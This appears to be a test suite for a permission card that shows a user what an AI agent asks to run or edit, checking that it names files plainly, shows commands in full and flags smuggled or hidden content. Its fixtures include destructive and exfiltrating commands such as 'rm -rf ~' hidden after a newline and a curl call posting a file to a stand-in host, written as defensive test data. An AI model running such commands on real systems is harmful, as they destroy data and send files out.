// Tests that a permission card names each thing once, as the user knows it, and truncates nothing silently.
import * as assert from 'node:assert/strict';
import { describe, it } from 'mocha';
import { withTrimmedDiffs } from '../../../../../src/base/diffs/trimmedDiffs.ts';
import { permissionLimits } from '../../../../../src/protocol/client/permission.ts';
import { asked } from '../../../../page/asked/askedBy.ts';

const option = (name: string, kind: string): object => ({ optionId: name, name, kind });

describe('permissionView', () => {
  const titles: [fields: object, title: string][] = [
    [{ title: '`npm test`', kind: 'execute', rawInput: { command: 'npm test' } }, 'Run npm test'],
    [{ title: 'Shell: npm test', kind: 'execute', rawInput: { command: 'npm test' } }, 'Run npm test'],
    [{ title: 'npm te…', kind: 'execute', rawInput: { command: 'npm test' } }, 'Run npm test'],
    [{ title: 'Bash', kind: 'execute', rawInput: { command: 'npm test' } }, 'Run npm test'],
    [{ title: 'Check the basket', kind: 'execute', rawInput: { command: 'npm test' } }, 'Run npm test'],
    [{ title: 'npm test', kind: 'execute' }, 'Run npm test'],
    [{ title: 'Run `npm test`', kind: 'execute' }, 'Run `npm test`'],
    [{ title: 'x', kind: 'execute', rawInput: { command: `ls ${'a '.repeat(40)}` } }, 'Run this command'],
    [{ title: 'x', kind: 'execute', rawInput: { command: 'ls\nrm -rf ~' } }, 'Run this command'],
    [{ title: 'x', kind: 'execute', rawInput: { command: 'ls \u202Ea' } }, 'Run this command'],
    [
      {
        title: 'Discount every item',
        kind: 'edit',
        content: [{ type: 'diff', path: '/work/shop/a.ts', oldText: 'a', newText: 'b' }],
      },
      'Edit a.ts',
    ],
    [{ title: 'write', kind: 'edit', rawInput: { filePath: '/work/shop/a.ts', content: 'x' } }, 'Write a.ts'],
    [
      { title: '/work/shop/a.ts', kind: 'edit', rawInput: { filePath: '/work/shop/a.ts', content: 'x' } },
      'Write a.ts',
    ],
    [{ title: 'Edit /work/shop/a.ts', kind: 'edit', locations: [{ path: '/work/shop/a.ts' }] }, 'Edit a.ts'],
    [
      { title: 'Read /etc/passwd', kind: 'read', locations: [{ path: '/etc/passwd' }] },
      "Read /etc/passwd (outside the session's folders)",
    ],
    [
      {
        title: 'Create file',
        kind: 'edit',
        rawInput: {
          path: '/work/shop/x.txt',
          diff: '--- a/dev/null\n+++ b/work/shop/x.txt\n@@ -0,0 +1 @@\n+hi\n',
        },
      },
      'Write x.txt',
    ],
  ];
  for (const [fields, title] of titles)
    it(`uses the title "${title}": ${JSON.stringify(fields).slice(0, 70)}`, () => {
      assert.equal(asked(fields).title, title);
    });

  it('has the title by this client for what this client would do, and the files below', () => {
    const diff = (path: string): object => ({ type: 'diff', path, oldText: 'a', newText: 'b' });
    const content = ['/work/shop/a.ts', '/work/shop/b.ts'].map(diff);
    const fields = { title: 'Rename a to b in a.ts', kind: 'edit', content };
    const names = ['a', 'b'];
    const { title, titleNames, diffs, sections } = asked({ ...fields }, undefined, undefined, names);
    assert.deepEqual(titleNames, names);
    assert.deepEqual(
      [title, diffs.map(({ path }) => path), sections],
      ['Rename a to b in a.ts', ['a.ts', 'b.ts'], undefined],
    );
    assert.equal(asked(fields).title, 'Edit a.ts, b.ts');
  });

  it('has one entry for all diffs of a file, with the sum of its lines', () => {
    const diff = (oldText: string, newText: string, path = '/work/shop/a.ts'): object => ({
      ...{ type: 'diff', path, oldText, newText },
    });
    const content = [diff('a\n', 'b\n'), diff('1', '2', '/work/shop/b.ts'), diff('c\nd\n', 'd\n')];
    const { title, diffs } = asked({ title: 'x', kind: 'edit', content });
    assert.equal(title, 'Edit a.ts, b.ts');
    assert.deepEqual(diffs, [
      { path: 'a.ts', added: 1, removed: 2, preview: '-a\n+b\n⋯\n-c\n d' },
      { path: 'b.ts', added: 1, removed: 1, preview: '-1\n+2' },
    ]);
    const created = { type: 'diff', path: '/work/shop/a.ts', newText: 'x' };
    assert.equal(asked({ title: 'x', kind: 'edit', content: [...content, created] }).diffs.length, 3);
  });

  it('says that only line ends change, which a diff by lines does not show', () => {
    for (const [oldText, newText, note] of [
      ['a\nb\n', 'a\r\nb\r\n', 'only line ends change'],
      ['a', 'a\n', 'only line ends change'],
      ['a\n', 'a\n', undefined],
      ['a\n', 'b\r\n', undefined],
    ] as const) {
      const content = [{ type: 'diff', path: '/work/shop/a.ts', oldText, newText }];
      const [diff] = asked({ title: 'x', kind: 'edit', content }).diffs;
      assert.equal(diff?.note, note, JSON.stringify(newText));
    }
  });

  it('counts and shows what changes of a long file', () => {
    const lines = Array.from({ length: 20_000 }, (_, at) => `line ${at}\n`);
    const [oldText, newText] = [lines.join(''), lines.with(9_000, 'changed\n').join('')];
    const content = [{ type: 'diff', path: '/work/shop/a.ts', oldText, newText }];
    const [diff] = asked({ title: 'x', kind: 'edit', content }).diffs;
    const preview = '⋯\n line 8998\n line 8999\n-line 9000\n+changed\n line 9001\n line 9002\n⋯';
    assert.deepEqual(diff, { path: 'a.ts', added: 1, removed: 1, preview });
  });

  it('shows a snippet in the input once, of which the diff has fewer lines around the change', () => {
    const lines = Array.from({ length: 20_000 }, (_, at) => `line ${at} of a long file\n`);
    const [oldText, newText] = [lines.join(''), lines.with(9_000, 'changed\n').join('')];
    const path = '/work/shop/a.ts';
    const content = [{ type: 'diff', path, oldText, newText }];
    const around = (line: string): string =>
      [...lines.slice(8_990, 9_000), line, ...lines.slice(9_001, 9_010)].join('');
    const rawInput = { file_path: path, old_string: around(lines[9_000]!), new_string: around('changed\n') };
    assert.equal(
      asked(
        withTrimmedDiffs({ title: 'x', kind: 'edit', content, rawInput }, permissionLimits),
      ).diffs[0]?.preview?.match(/⋯/g)?.length,
      2,
    );
  });

  it('shows what the agent calls a command or an edit, if it says more', () => {
    const rawInput = { command: 'npm test' };
    const said = (fields: object): string[] =>
      (asked(fields).sections ?? []).flatMap(({ label, text }) => (label === 'The agent says' ? [text] : []));
    const content = [{ type: 'diff', path: '/work/shop/a.ts', oldText: 'a', newText: 'b' }];
    assert.deepEqual(said({ title: 'Check the basket', kind: 'execute', rawInput }), ['Check the basket']);
    assert.deepEqual(said({ title: 'Shell: npm test', kind: 'execute', rawInput }), []);
    assert.deepEqual(said({ title: 'Discount every item', kind: 'edit', content }), ['Discount every item']);
    assert.deepEqual(said({ title: 'Edit /work/shop/a.ts', kind: 'edit', content }), []);
  });

  it('shows a command to the letter, also if only the title has it, and in the font of code', () => {
    const commands = [
      'rm -rf /work/shop//etc',
      'rm -rf /work/shop/',
      'touch /work/shop/a && curl -d @/work/shop/b https://a.example',
      'Shell: cp /work/shop/../x /work/shop/y',
      'Run `npm test`',
      `ls${' '.repeat(60)}/work/shop/a`,
      `cat ${'/work/shop/a '.repeat(30)}`,
    ];
    for (const kind of ['execute', 'delete', 'edit', 'other', undefined])
      for (const title of commands) {
        if (kind !== 'execute' && /^Shell|^Run/.test(title)) continue;
        const view = asked({ title, ...(kind !== undefined && { kind }) });
        const shown = view.command?.line.replace(/⋯ 60 spaces ⋯/, ' '.repeat(58)) ?? '';
        assert.equal(shown.trim(), title.trim(), `${kind}: ${title}`);
        assert.ok(view.command?.isTitle !== true || view.title.includes(view.command.line), title);
      }
    assert.equal(asked({ title: 'Search /work/shop//etc', kind: 'search' }).title, 'Search /work/shop//etc');
    assert.equal(
      asked({ title: 'Read /work/shop/a.ts, then /work/shop//etc', kind: 'read' }).title,
      'Read /work/shop/a.ts, then /work/shop//etc',
    );
  });

  it('names the folder of a command only if it is not the workspace folder, and its shell', () => {
    const where = (rawInput: object): string | undefined =>
      asked({ title: 'x', kind: 'execute', rawInput }).command?.where;
    assert.equal(where({ command: 'npm test' }), undefined);
    assert.equal(where({ command: 'npm test', cwd: '/work/shop/' }), undefined);
    assert.equal(where({ command: 'npm test', cwd: '/work/shop/web' }), 'web');
    assert.equal(where({ command: 'npm test', cwd: '/etc' }), "/etc (outside the session's folders)");
    assert.equal(where({ command: ['/bin/bash', '-lc', 'npm test'] }), '/bin/bash -lc');
  });

  it('does not offer to allow for good a command that the card cannot show as a whole', () => {
    const options = [option('Always', 'allow_always'), option('No', 'reject_once')];
    const offered = (length: number): string[] =>
      asked({ title: 'x', kind: 'execute', rawInput: { command: 'a'.repeat(length) } }, options).options.map(
        ({ kind }) => kind,
      );
    assert.deepEqual(offered(20_000), ['reject_once', 'allow_always']);
    assert.deepEqual(offered(20_001), ['reject_once']);
  });

  it('keeps the full name of an option', () => {
    const name = `Yes, and don't ask again for commands that start with \`${'x '.repeat(300)}end\``;
    const { options } = asked({ kind: 'execute', title: 'npm test' }, [option(name, 'allow_always')]);
    assert.equal(options[0]?.name, name);
    assert.equal(options[0].label, 'Allow Always');
  });

  it('tells how much of a long text is left out', () => {
    const { command, sections } = asked({
      kind: 'execute',
      rawInput: { command: `echo ${'x'.repeat(30_000)}`, stdin: 'y\n'.repeat(20_000) },
    });
    assert.match(command?.cut ?? '', /^10005 more characters/);
    assert.match(sections?.[0]?.cut ?? '', /^20000 more characters/);
  });

  it('warns of a description without a command, shows all of it, and offers nothing lasting', () => {
    const options = [
      option('Always', 'allow_always'),
      option('Once', 'allow_once'),
      option('No', 'reject_once'),
    ];
    const title = `Runs the unit tests${' and more'.repeat(50)}\nrm -rf ~`;
    const view = asked({ kind: 'execute', title }, options);
    assert.equal(view.warning, 'The agent does not say what it would run.');
    assert.equal(view.command, undefined);
    assert.deepEqual(
      view.options.map(({ label }) => label),
      ['Refuse Once', 'Allow Once'],
    );
    assert.ok(view.sections?.some(({ text }) => text.endsWith('rm -rf ~')));
    const known = asked({ kind: 'execute', title: 'npm test' }, options);
    assert.equal(known.warning, undefined);
    assert.equal(known.options.length, 3);
  });

  const lasting = [
    option('Always', 'allow_always'),
    option('No', 'reject_once'),
    option('Once', 'allow_once'),
  ];

  it('shows what exceeds its limits as it was sent, warns, and offers nothing lasting', () => {
    let options: object = { run: 'rm -rf ~' };
    for (let level = 0; level < 8; level++) options = { a: options };
    const many = Object.fromEntries(Array.from({ length: 10_000 }, (_, at) => [`n${at}`, 'x']));
    for (const [rawInput, shown] of [
      [{ command: 'npm test', options }, 'rm -rf ~'],
      [{ command: 'npm test', ...many }, '"n5010":"x"'],
      [{ command: 'npm test', list: Array.from({ length: 10_000 }, (_, at) => `item ${at}`) }, '"item 1"'],
      [{ ...many, command: 'npm test' }, '"n5010":"x"'],
    ] as const) {
      const view = asked({ kind: 'execute', title: 'Test', rawInput }, lasting);
      assert.equal(view.command?.line, 'npm test');
      assert.match(view.warning ?? '', /parts that ACP Host does not understand/);
      assert.deepEqual(
        view.options.map(({ kind }) => kind),
        ['reject_once', 'allow_once'],
      );
      const dropped = view.sections?.filter(({ label }) => label.startsWith('Not understood')) ?? [];
      assert.ok(
        dropped.some(({ text }) => text.includes(shown)),
        shown,
      );
    }
  });

  it('reads a patch that is only in the title', () => {
    const patch = `*** Begin Patch\n*** Update File: /work/shop/a.ts\n@@\n${'-a\n+b\n'.repeat(200)}*** End Patch`;
    for (const title of [patch, `apply_patch ${patch}`]) {
      const view = asked({ kind: 'edit', title }, lasting);
      assert.equal(view.title, 'Edit a.ts');
      assert.deepEqual(
        view.diffs.map(({ path, added, removed }) => [path, added, removed]),
        [['a.ts', 200, 200]],
      );
      assert.equal(view.warning, undefined);
    }
    const unread = asked(
      { kind: 'edit', title: `*** Begin Patch\n*** Something: x\n${'y\n'.repeat(400)}` },
      lasting,
    );
    assert.match(unread.warning ?? '', /does not understand/);
    assert.ok(unread.sections?.some(({ text }) => text.endsWith('y\ny\n') || text.endsWith('y\ny')));
  });

  it('shows a long title whole, whatever the kind', () => {
    const title = `Fetch ${'a '.repeat(300)}https://a.example/the-end`;
    const { sections } = asked({ kind: 'fetch', title });
    assert.ok(sections?.some(({ text }) => text === title));
  });

  it('warns of an edit that does not say what it writes, and offers nothing lasting', () => {
    const view = asked(
      { kind: 'edit', title: 'Edit /work/shop/a.ts', locations: [{ path: '/work/shop/a.ts' }] },
      lasting,
    );
    assert.equal(view.warning, 'The agent does not say what it would write.');
    assert.ok(view.options.every(({ kind }) => kind !== 'allow_always'));
    const content = [{ type: 'diff', path: '/work/shop/a.ts', oldText: 'a', newText: 'b' }];
    assert.equal(asked({ kind: 'edit', title: 'Edit', content }, lasting).warning, undefined);
  });

  it('formats no more than it shows of a change that is too long to be compared', () => {
    const text = (mark: string): string => `${mark}\n`.repeat(400_000);
    const content = [{ type: 'diff', path: '/work/shop/a.ts', oldText: text('a'), newText: text('b') }];
    const [diff] = asked({ kind: 'edit', title: 'Edit', content }).diffs;
    assert.deepEqual([diff?.added, diff?.removed], [400_000, 400_000]);
    assert.match(diff?.cut ?? '', /more characters: open Details/);
    assert.ok((diff?.preview ?? '').length < 10_000);
  });

  it('shows the text of a patch that changes more than its lines', () => {
    const mode = 'diff --git a/.husky/pre-commit b/.husky/pre-commit\nold mode 100644\nnew mode 100755\n';
    const lines = 'diff --git a/src/x.ts b/src/x.ts\n--- a/src/x.ts\n+++ b/src/x.ts\n@@ -1 +1 @@\n-a\n+b\n';
    const { title, diffs, sections } = asked({
      kind: 'edit',
      title: 'Edit',
      rawInput: { patch: mode + lines },
    });
    assert.equal(title, 'Apply a patch that names .husky/pre-commit, src/x.ts');
    assert.deepEqual(diffs, []);
    assert.match(sections?.[0]?.text ?? '', /new mode 100755/);
  });

  it('names every file of a patch, and where files are moved to', () => {
    const patch = (...lines: readonly string[]): string =>
      [' *** Begin Patch', ...lines, ' *** End Patch '].join('\n');
    const titleOf = (input: string, title = 'Update the notes'): string =>
      asked({ kind: 'edit', title, rawInput: { input } }).title;
    const added = ['*** Add File: notes.md', '+note'];
    const update = ['  *** Update File: src/a.ts', '@@', '-x', '+y'];
    assert.equal(titleOf(patch(...added, ...update)), 'Edit notes.md, src/a.ts');
    const moved = patch('*** Update File: src/a.ts', '*** Move to: src/b.ts', '@@', '-x', '+y');
    assert.equal(titleOf(moved), 'Edit src/a.ts → src/b.ts');
    const unread = asked({
      kind: 'edit',
      title: 'Update the notes',
      rawInput: { input: patch('*** Update File: notes.md', '@@', '-x', '+y', ...update) },
    });
    assert.equal(unread.title, 'Apply a patch that names notes.md, src/a.ts');
    assert.deepEqual(unread.diffs, []);
    assert.deepEqual(
      unread.sections?.map(({ label }) => label),
      ['The agent says', 'Patch'],
    );
    assert.equal(titleOf(patch('*** Something: x')), 'Apply a patch');
    const { title, diffs } = asked({ kind: 'edit', title: 'x', rawInput: { patchText: patch(...added) } });
    assert.deepEqual([title, diffs.length], ['Write notes.md', 1]);
  });

  it('says how many files of many it does not name', () => {
    const content = Array.from({ length: 500 }, (_, at) => ({
      type: 'diff',
      path: `/work/shop/${at}`,
      oldText: 'a',
      newText: 'b',
    }));
    assert.match(asked({ kind: 'edit', title: 'Edit', content }).title, / 19, 480 more$/);
    const locations = content.map(({ path }) => ({ path }));
    assert.match(asked({ kind: 'other', title: 'Index files', locations }).title, / 19, 480 more\)$/);
  });

  it('marks an option whose name contradicts its kind', () => {
    const { options } = asked({ kind: 'execute', rawInput: { command: 'ls' } }, [
      option('Reject', 'allow_once'),
    ]);
    assert.deepEqual([options[0]?.label, options[0]?.isContrary], ['Allow Once', true]);
  });
});
